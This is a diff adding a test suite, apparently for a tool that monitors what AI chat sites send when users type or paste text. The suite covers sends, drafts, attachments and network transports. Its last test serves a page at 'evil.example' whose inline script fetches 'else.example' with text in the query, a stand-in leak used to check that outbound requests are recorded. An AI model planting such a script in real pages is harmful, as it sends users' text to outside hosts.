@@ -1,0 +1,146 @@
+import { beforeEach, describe, expect, test } from 'vitest';
+import { SITES } from '../fixtures/sites/index.ts';
+import type { CarriedKind } from '../fixtures/sites/types.ts';
+import type { TestBed } from './test-bed.ts';
+
+/** Each of these is written differently in JSON, in a URL and in a form. */
+const AWKWARD = 'se"cr\\et+50%25 a/b=c&d é 😀';
+
+/** What leaves beside the message itself, and where. */
+const BESIDE: readonly (readonly [site: string, kind: CarriedKind])[] = [
+  ['chatgpt', 'draft'],
+  ['claude', 'copy'],
+  ['copilot', 'draft'],
+  ['perplexity', 'copy'],
+  ['perplexity', 'draft'],
+];
+
+const LONG_PASTES: readonly (readonly [site: string, limit: number])[] = [
+  ['chatgpt', 5000],
+  ['claude', 4000],
+];
+
+function addressOf(id: string): string {
+  const host = SITES.find((site) => site.id === id)?.hosts[0];
+  if (host === undefined) throw new Error(`No fixture is called ${id}`);
+  return `https://${host}/`;
+}
+
+function testMessages(bed: TestBed): void {
+  test.each(SITES)('$id sends on Enter and by its button', async ({ id, sendControl }) => {
+    const { composer, server } = bed;
+    await composer.goto(addressOf(id));
+    await composer.paste(AWKWARD);
+    await composer.waitForText(AWKWARD);
+    await composer.page.press('Enter');
+    await server.waitForMessage();
+    await composer.page.type('second');
+    await composer.page.click(sendControl);
+    await server.waitForMessage(5000, 2);
+    const sent = server.messages().map(({ site, text }) => ({ site, text }));
+    expect(sent).toEqual([
+      { site: id, text: AWKWARD },
+      { site: id, text: 'second' },
+    ]);
+    expect(server.carrying(AWKWARD)).not.toEqual([]);
+  });
+
+  test.each(BESIDE)('%s sends a %s as well', async (id, kind) => {
+    const { composer, server } = bed;
+    await composer.goto(addressOf(id));
+    await composer.paste('said twice');
+    if (kind === 'copy') await composer.page.press('Enter');
+    const found = () => server.messages(kind).find(({ text }) => text === 'said twice');
+    expect(await server.waitFor(kind, found, 5000)).toMatchObject({ site: id });
+    expect(server.messages()).toHaveLength(kind === 'copy' ? 1 : 0);
+  });
+
+  test.each(['click', 'pointerdown', 'mousedown', 'form'])(
+    'a button on %s sends once',
+    async (on) => {
+      const { composer, server } = bed;
+      await composer.goto(`https://chatgpt.com/?send=${on}`);
+      await composer.page.type('by button');
+      await composer.page.click("[data-testid='send-button']");
+      await server.waitForMessage();
+      expect(await composer.sent()).toBe(1);
+      // The click has moved the focus to the button.
+      await composer.focus();
+      await composer.page.type('by key');
+      await composer.page.press('Enter');
+      await server.waitForMessage(5000, 2);
+      expect(server.messages().map(({ text }) => text)).toEqual(['by button', 'by key']);
+    },
+  );
+}
+
+function testAttachments(bed: TestBed): void {
+  test.each(LONG_PASTES)('%s makes an attachment of more than %i characters', async (id, limit) => {
+    const { composer, server } = bed;
+    await composer.goto(addressOf(id));
+    const short = 'word '.repeat(limit / 5);
+    await composer.paste(short);
+    await composer.waitForText(short);
+    await composer.clear();
+    await composer.paste(`${short}!`);
+    await composer.page.waitFor('fixture.attachments().length === 1');
+    expect(await composer.text()).toBe('');
+    await composer.page.press('Enter');
+    await server.waitForMessage();
+    expect(server.messages('attachment').map(({ text }) => text)).toEqual([`${short}!`]);
+    expect(server.messages().map(({ text }) => text)).toEqual(['']);
+  });
+}
+
+function testNetwork(bed: TestBed): void {
+  test.each(['fetch', 'xhr'])('gemini sends by the %s that it kept', async (transport) => {
+    const { composer, server } = bed;
+    await composer.goto(`https://gemini.google.com/?transport=${transport}`);
+    await composer.page.evaluate('window.fetch = window.XMLHttpRequest = undefined');
+    await composer.page.type('kept');
+    await composer.page.press('Enter');
+    expect((await server.waitForMessage()).text).toBe('kept');
+  });
+
+  test('qwen sends the history with each message', async () => {
+    const { composer, server } = bed;
+    await composer.goto('https://chat.qwen.ai/');
+    for (const [index, text] of ['one', 'two'].entries()) {
+      await composer.page.type(text);
+      await composer.page.press('Enter');
+      await server.waitForMessage(5000, index + 1);
+    }
+    const last = server.records.findLast(({ method }) => method === 'POST');
+    expect(last?.text).toMatch(/"one".*"two"/);
+  });
+
+  test('the demo is served over plain http too', async () => {
+    const { composer, server } = bed;
+    await composer.goto('http://pasteward-demo.localhost/');
+    await composer.page.type('hello');
+    await composer.page.press('Enter');
+    expect(await server.waitForMessage()).toMatchObject({ site: 'demo', text: 'hello' });
+  });
+
+  test('a page of the test runs at its own host, and any host is recorded', async () => {
+    const { composer, server } = bed;
+    server.page(
+      'evil.example',
+      '/trap',
+      '<script>fetch("https://else.example/?q=t%C3%A9xt")</script>',
+    );
+    await composer.page.goto('https://evil.example/trap');
+    const leaks = () => (server.carrying('téxt').length > 0 ? server.carrying('téxt') : undefined);
+    expect(await server.waitFor('leak', leaks, 5000)).toContain('GET else.example/?q=t%C3%A9xt');
+  });
+}
+
+/** Proves that each site's page sends what its editor holds, and that the server can read it. */
+export function describeSites(bed: TestBed): void {
+  describe('sites', () => {
+    beforeEach(() => bed.server.reset());
+    testMessages(bed);
+    testAttachments(bed);
+    testNetwork(bed);
+  });
+}
